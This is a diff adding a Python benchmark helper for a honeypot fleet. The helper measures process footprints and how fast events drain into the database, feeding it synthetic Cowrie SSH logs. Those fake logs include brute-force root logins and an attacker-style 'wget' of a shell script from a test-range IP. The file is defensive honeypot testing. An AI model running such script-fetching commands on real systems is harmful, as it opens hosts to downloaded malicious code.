@@ -1,0 +1,132 @@
+# SPDX-License-Identifier: MIT
+"""The private fleet that the footprint benchmark measures, and the log that it reads."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import random
+import signal
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+from decnet.drill.private import free_block, settings_text
+from decnet_core.footprint import Footprint, measure
+from decnet_core.supervise.roster import Roster, read_rosters
+from decnet_models.engine import open_engine, reading
+from decnet_models.events.queries import last_seq
+from decnet_models.migrations.upgrade import upgrade
+
+ATTACKERS = 2000
+DRAIN_SECONDS = 60.0
+Sample = dict[str, Footprint]
+
+
+class Fleet:
+    """A private fleet with one collected log."""
+
+    def __init__(self, root: Path) -> None:
+        self.log = root / "cowrie.json"
+        self.log.touch()
+        self._root = root
+        self._state = root / "state"
+        self._state.mkdir()
+        self._database = f"sqlite:///{self._state / 'decnet.db'}"
+        upgrade(self._database)
+        source = f'\n[[collect.source]]\nname = "cowrie"\nformat = "cowrie"\npath = "{self.log}"\n'
+        (root / "decnet.toml").write_text(settings_text(free_block()) + source)
+        outer = {name: value for name, value in os.environ.items() if not name.startswith("DECNET_")}
+        settings = {"DECNET_STATE_DIR": str(self._state), "DECNET_SETTINGS": str(root / "decnet.toml")}
+        self._environment = outer | settings
+
+    @contextlib.contextmanager
+    def running(self, mode: str) -> Iterator[float]:
+        """Run the fleet; yield the seconds from its start until all are ready."""
+        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as told, (self._root / "log").open("wb") as log:
+            told.bind(str(self._root / "notify"))
+            told.settimeout(60)
+            began = time.monotonic()
+            process = subprocess.Popen(
+                [sys.executable, "-m", "decnet_core.supervise.command", "all", "--mode", mode],
+                env=self._environment | {"NOTIFY_SOCKET": str(self._root / "notify")},
+                stderr=log,
+            )
+            try:
+                if told.recv(100) != b"READY=1":
+                    raise SystemExit((self._root / "log").read_text())
+                yield time.monotonic() - began
+            finally:
+                process.send_signal(signal.SIGTERM)
+                process.wait(60)
+
+    def drill(self) -> None:
+        """Have everything done once; SystemExit when the fleet does not hold."""
+        done = subprocess.run(
+            [sys.executable, "-m", "decnet", "drill", "--json"],
+            env=self._environment,
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        if done.returncode != 0:
+            raise SystemExit(f"the drill does not hold:\n{done.stdout}{done.stderr}")
+
+    def sample(self) -> Sample:
+        """Measure every process of the fleet."""
+        found = {name: measure(pid) for name, pid in processes(next(iter(read_rosters(self._state / "run")))).items()}
+        return {name: one for name, one in found.items() if one is not None}
+
+    def wait_for(self, count: int) -> float:
+        """Wait until the database holds `count` events; return the seconds; SystemExit when some never come."""
+        began = time.monotonic()
+        while (found := self.events()) < count:
+            if time.monotonic() - began > DRAIN_SECONDS:
+                raise SystemExit(f"{count - found} events never came into the database")
+            time.sleep(0.1)
+        return time.monotonic() - began
+
+    def events(self) -> int:
+        """Return how many events the database holds."""
+        engine = open_engine(self._database, read_only=True)
+        with reading(engine) as connection:
+            count = last_seq(connection)
+        engine.dispose()
+        return count
+
+
+def processes(roster: Roster) -> dict[str, int]:
+    """Return the fleet's pids by name; in tasks mode there is one."""
+    named = {status.name: status.pid for status in roster.workers}
+    others = {"(supervisor)": roster.supervisor, "(zygote)": roster.zygote}
+    if set(named.values()) == {roster.supervisor}:
+        return {"(all in one)": roster.supervisor}
+    return {name: pid for name, pid in (named | others).items() if pid}
+
+
+def cowrie_lines() -> Iterator[bytes]:
+    """Yield log lines as Cowrie writes them: sessions of many attackers, each a few guesses and commands."""
+    chance = random.Random(4)
+    while True:
+        number = chance.randrange(ATTACKERS)
+        session = {"src_ip": f"198.18.{number >> 8}.{number & 255}", "session": f"{chance.getrandbits(48):012x}"}
+        yield cowrie_line("session.connect", session, src_port=chance.randrange(1024, 65536), dst_port=2222)
+        for _ in range(chance.randrange(1, 6)):
+            password = f"secret-{chance.randrange(5000)}"
+            yield cowrie_line("login.failed", session, username="root", password=password)
+        yield cowrie_line("login.success", session, username="root", password="P@ssw0rd")
+        for command in ("uname -a", "cat /proc/cpuinfo", f"wget http://198.18.0.1/{chance.randrange(500)}.sh"):
+            yield cowrie_line("command.input", session, input=command)
+        yield cowrie_line("session.closed", session, duration="12.5")
+
+
+def cowrie_line(event: str, session: dict[str, str], **fields: object) -> bytes:
+    """Return one line of the log, dated now."""
+    now = time.time()
+    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int(now % 1 * 1e6):06d}Z"
+    common = {"eventid": f"cowrie.{event}", "sensor": "cowrie-1", "protocol": "ssh", "timestamp": stamp}
+    return json.dumps({**common, "message": event, **session, **fields}).encode() + b"\n"
